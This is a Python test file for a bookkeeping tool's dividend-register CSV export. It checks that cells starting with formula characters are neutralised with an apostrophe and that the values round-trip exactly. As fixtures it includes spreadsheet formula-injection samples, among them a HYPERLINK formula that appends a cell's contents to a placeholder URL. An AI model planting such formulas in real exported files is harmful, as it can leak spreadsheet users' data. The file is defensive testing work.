"""The bookkeeper's files (calculator/register/cells.py, files.py, spreadsheet.py): CSV cells safe to open in
Excel and WPS and read back exactly; encodings decided, not guessed; size and kind checked first;
.xlsx and .xls read as they are (written here by other programs: xlsxwriter, xlwt) and the year's table
saved as .xlsx."""

import csv
import io

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from calculator import calculate
from calculator.register.cells import TRIGGERS, formula_safe, formula_unescaped


def register(text, **fields):
    request = {"measure": "dividend_register", "injected_funds": "500000", "distribution_year": 2020,
               "text": text, **fields}
    return calculate(request)


def csv_text(rows):
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue()


# ---------------------------------------------------------------- formula-safe CSV, and back

def test_cells_that_would_run_as_formulas_get_one_apostrophe():
    assert formula_safe('=HYPERLINK("http://x?"&A3,"点此")') == '\'=HYPERLINK("http://x?"&A3,"点此")'
    for start in TRIGGERS:
        assert formula_safe(start + "1") == "'" + start + "1"
        assert formula_unescaped(formula_safe(start + "1")) == start + "1"
    assert formula_safe("王福贵") == "王福贵" and formula_safe("'阿福") == "'阿福"
    assert formula_safe("'=1") == "''=1" and formula_unescaped("''=1") == "'=1"
    assert formula_unescaped("'阿福") == "'阿福"


def test_the_exported_csv_has_no_cell_a_spreadsheet_would_run():
    text = csv_text([["户主", "股数", "备注"], ["=1+2", "2", '=HYPERLINK("http://x/?"&A3,"点此")'],
                     ["@SUM(A1)", "1", "+86 123"], ["-王", "1", "-"]])
    result = register(text, export=["csv"])
    assert result["ok"], result.get("errors")
    for lang in ("zh", "en"):
        cells = [cell for row in csv.reader(io.StringIO(result["csv"][lang], newline="")) for cell in row]
        assert not [c for c in cells if c.startswith(TRIGGERS)], cells
        assert "'=1+2" in cells and "'@SUM(A1)" in cells and "'-王" in cells and "'-" in cells


# Names and notes a bookkeeper may type: letters, CJK, the formula starters and apostrophes in front.
_START = st.sampled_from(["", "=", "+", "-", "@", "'", "''", "'=", "'+", "''-", "'@"])
_BODY = st.text(alphabet=st.sampled_from(list("王李张福贵Ab1=+-@'\" ,，（）")), min_size=1, max_size=8)
_VALUE = st.builds(lambda start, body: start + body, _START, _BODY).filter(lambda s: s.strip() == s and s.strip())


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(_VALUE, st.one_of(st.just(""), _VALUE)), min_size=1, max_size=6,
                unique_by=lambda r: r[0]))
def test_a_saved_csv_chosen_again_reads_as_the_same_list(rows):
    text = csv_text([["户主", "股数", "备注"]] + [[name, "1", note] for name, note in rows])
    first = register(text, export=["csv"])
    if not first["ok"]:  # a list the module refuses (a duplicate after folding): nothing to round-trip
        assert all(e["code"].startswith("register_") for e in first["errors"])
        return
    # a cell typed as '=… in the bookkeeper's own file reads as =… (the apostrophe a spreadsheet shows for text)
    assert [(h["household"], h["note"] or "") for h in first["households"]] == \
           [(formula_unescaped(name), formula_unescaped(note)) for name, note in rows]
    for lang in ("zh", "en"):
        again = register(first["csv"][lang], export=["csv"])
        assert again["ok"], again.get("errors")
        assert [(h["household"], h["note"]) for h in again["households"]] == \
               [(h["household"], h["note"]) for h in first["households"]]
        assert again["csv"][lang] == first["csv"][lang]
